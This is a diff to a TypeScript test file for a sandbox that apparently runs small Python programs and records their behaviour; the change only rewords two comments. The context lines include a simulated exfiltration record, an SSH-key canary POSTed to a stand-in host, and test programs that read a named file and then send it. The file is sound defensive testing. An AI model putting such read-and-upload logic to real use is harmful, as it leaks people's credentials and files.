@@ -3,7 +3,7 @@ import { buildPlan, type ExerciseUnit } from '@assay/analysis/runs/plan';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createEmbeddedSandbox } from './embedded.ts';
 
-// Far above what the tests need: a busy machine must not change a result.
+// Far above what the tests need, so that a busy machine does not change a result.
 const sandbox = createEmbeddedSandbox({ unitWallMs: 60_000, totalWallMs: 280_000 });
 afterAll(() => sandbox.close());
 
@@ -13,7 +13,7 @@ const LEAK = 'net | POST https://c.example.invalid/u | canary:ssh-key upload';
 const START = 'import os, sys, requests';
 
 type Further = Partial<Pick<ExerciseUnit, 'args' | 'others'>>;
-/** Each goes on to its act only where it is given what it wants. */
+/** Each program performs its act only when it gets what it requires. */
 const ACTS: Record<string, [code: string, seen: string, how?: Further]> = {
   'a file its command line names': [
     lines(START, 'rows = open(sys.argv[1]).read().split("\\n")', `if len(rows) > 1: ${SEND}`),
